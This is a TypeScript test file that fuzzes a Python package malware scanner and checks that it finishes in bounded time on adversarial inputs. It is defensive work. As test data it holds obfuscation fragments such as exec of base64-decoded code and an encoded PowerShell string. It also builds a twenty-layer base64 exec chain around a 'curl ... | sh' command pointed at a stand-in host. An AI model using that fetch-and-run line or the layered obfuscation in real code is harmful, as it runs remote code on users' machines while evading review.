/**
 * No input stops a scan: random archives, mutated wheels and sdists, random
 * and Python-like source text always give a report with a verdict (fast-check),
 * and inputs built to exhaust a scanner (a 20 MB single-line literal, an
 * expression nested thousands deep, a decoded payload that decodes again and
 * again) finish in bounded time.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { pack } from 'tar-stream';
import { ArtifactScanner } from '../../src/analyze/artifact.js';
import { VERDICTS } from '../../src/analyze/verdict.js';
import { fileRole } from '../../src/analyze/context.js';
import { writeTarGz, writeZip, wheelEntries } from '../helpers/zip.js';

const dir = mkdtempSync(join(tmpdir(), 'gatehouse-bounded-'));
test.after(() => rmSync(dir, { recursive: true, force: true }));
const scanner = await ArtifactScanner.create();

/** Fragments that steer random text towards what the engine folds, decodes and follows. */
const fragments = [
  'exec(', 'eval(', 'compile(', 'getattr(__builtins__, ', '__import__(', "'os'", '"system"', 'base64.b64decode(', 'zlib.decompress(',
  'bytes.fromhex(', "''.join(", 'chr(', 'map(chr, [', '[::-1]', '(', ')', '[', ']', ',', ' + ', ' << ', ' * ', '"aGVsbG8="', "'\\x41'",
  'import base64, zlib, os\n', 'def f(x):\n    return ', 'lambda x: ', 'x = ', 'x', '\n', '    ', 'subprocess.Popen(', 'requests.post(',
  'os.environ', 'open(', '.write(', 'Fernet(', '.decrypt(', '"powershell -enc SQBFAFgA"', ', shell=True)', '1', '255', '"', "'", '#', '\\',
];
const pythonish = fc.array(fc.constantFrom(...fragments), { maxLength: 120 }).map((parts) => parts.join(''));

test('random and Python-like source text always scans, in any role', () => {
  fc.assert(
    fc.property(fc.oneof(fc.string({ maxLength: 400 }), pythonish), fc.constantFrom('pkg/mod.py', 'setup.py', 'tests/test_x.py'), (text, path) => {
      const hits = scanner.source.scanPython({ path, text }, { role: fileRole(path, 'sdist'), depth: 0 });
      assert.ok(Array.isArray(hits));
    }),
    { numRuns: 300 },
  );
});

function tarGz(entries: Array<{ name: string; data: Uint8Array }>): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const p = pack();
    const chunks: Buffer[] = [];
    p.on('data', (c: unknown) => chunks.push(c as Buffer));
    p.on('end', () => resolve(gzipSync(Buffer.concat(chunks))));
    p.on('error', reject);
    for (const e of entries) p.entry({ name: e.name, size: e.data.length }, Buffer.from(e.data));
    p.finalize();
  });
}

test('random bytes, random tar.gz sdists and mutated wheels always get a verdict', async () => {
  const wheel = join(dir, 'good-1.0-py3-none-any.whl');
  writeZip(wheel, [...wheelEntries('good', '1.0'), { name: 'good/run.py', text: 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n' }]);
  const sdist = join(dir, 'good-1.0.tar.gz');
  writeTarGz(sdist, [{ name: 'good-1.0/setup.py', text: 'import os\nos.system("pip install x")\n' }, { name: 'good-1.0/PKG-INFO', text: 'Name: good\nVersion: 1.0\n' }]);
  const originals = [readFileSync(wheel), readFileSync(sdist)];
  let n = 0;
  const entry = fc.record({ name: fc.oneof(fc.constantFrom('x-1.0/setup.py', 'x-1.0/x/__init__.py', 'x-1.0/PKG-INFO', 'x-1.0/a.pth'), fc.string({ minLength: 1, maxLength: 30 })), data: fc.oneof(fc.uint8Array({ maxLength: 300 }), pythonish.map((t) => new TextEncoder().encode(t))) });
  await fc.assert(
    fc.asyncProperty(
      fc.oneof(
        fc.record({ kind: fc.constant('bytes' as const), bytes: fc.uint8Array({ maxLength: 2000 }), name: fc.constantFrom('r-1.0-py3-none-any.whl', 'r-1.0.tar.gz', 'r-1.0.zip') }),
        fc.record({ kind: fc.constant('tar' as const), entries: fc.array(entry, { maxLength: 6 }) }),
        fc.record({ kind: fc.constant('mutated' as const), which: fc.integer({ min: 0, max: 1 }), flips: fc.array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 8 }) }),
      ),
      async (c) => {
        let data: Buffer;
        let name: string;
        if (c.kind === 'bytes') [data, name] = [Buffer.from(c.bytes), c.name];
        else if (c.kind === 'tar') [data, name] = [await tarGz(c.entries), 'x-1.0.tar.gz'];
        else {
          data = Buffer.from(originals[c.which]!);
          for (const [at, byte] of c.flips) data[at % data.length] = byte;
          name = c.which === 0 ? 'good-1.0-py3-none-any.whl' : 'good-1.0.tar.gz';
        }
        const path = join(dir, `${n++}-${name}`);
        writeFileSync(path, data);
        const report = await scanner.scan({ path, kind: name.endsWith('.whl') ? 'wheel' : 'sdist' });
        assert.ok(VERDICTS.includes(report.verdict), report.verdict);
        assert.ok(report.reasons.length > 0);
        rmSync(path);
      },
    ),
    { numRuns: 150 },
  );
});

test('a 20 MB single-line literal scans in bounded time and the exec of it is still judged', () => {
  const blob = 'QUJD'.repeat(5 * 1024 * 1024);
  const text = `import base64\nDATA = "${blob}"\nexec(base64.b64decode(DATA))\n`;
  const started = performance.now();
  const hits = scanner.source.scanPython({ path: 'setup.py', text }, { role: 'setup', depth: 0 });
  const seconds = (performance.now() - started) / 1000;
  assert.ok(seconds < 60, `took ${seconds.toFixed(1)} s`);
  assert.ok(hits.some((h) => h.rule.id === 'code.exec-decoded-payload'), hits.map((h) => h.rule.id).join(', '));
});

test('expressions nested thousands deep are reported and not parsed, in bounded time', () => {
  for (const text of [
    `import os\nx = ${'('.repeat(50_000)}1${')'.repeat(50_000)}\nexec(x)\n`,
    `import os\nx = ${Array.from({ length: 50_000 }, () => "'a'").join(' + ')}\nexec(x)\n`,
    `import base64\nexec(base64.b64decode(${'f('.repeat(20_000)}1${')'.repeat(20_000)}))\n`,
  ]) {
    const started = performance.now();
    const hits = scanner.source.scanPython({ path: 'pkg/mod.py', text }, { role: 'package', depth: 0 });
    const seconds = (performance.now() - started) / 1000;
    assert.ok(seconds < 20, `took ${seconds.toFixed(1)} s`);
    assert.ok(hits.some((h) => h.rule.id === 'code.deep-nesting'), hits.map((h) => h.rule.id).join(', '));
  }
});

test('a payload that decodes to itself again and again stops at the layer limit', () => {
  // Each layer is exec(base64 of the next); twenty layers deep, the innermost runs a command.
  let code = 'import os\nos.system("curl -s https://example.invalid/i.sh | sh")\n';
  for (let i = 0; i < 20; i++) code = `import base64\nexec(base64.b64decode("${Buffer.from(code).toString('base64')}"))\n`;
  const started = performance.now();
  const hits = scanner.source.scanPython({ path: 'pkg/__init__.py', text: code }, { role: 'package', depth: 0 });
  assert.ok((performance.now() - started) / 1000 < 20);
  assert.ok(hits.some((h) => h.rule.id === 'code.exec-decoded-payload'));
});

test('an artifact whose scan stops gets the verdict error with the reason, and the next one is still scanned', async () => {
  const gone = await scanner.scan({ path: join(dir, 'vanished-1.0-py3-none-any.whl'), kind: 'wheel' });
  assert.equal(gone.verdict, 'error');
  assert.match(gone.reasons[0]!, /the scan stopped: .*vanished/);
  assert.equal(gone.findings[0]?.rule, 'analyze.scan-error');
  const next = join(dir, 'next-1.0-py3-none-any.whl');
  writeZip(next, wheelEntries('next', '1.0'));
  assert.notEqual((await scanner.scan({ path: next, kind: 'wheel' })).verdict, 'error');
});
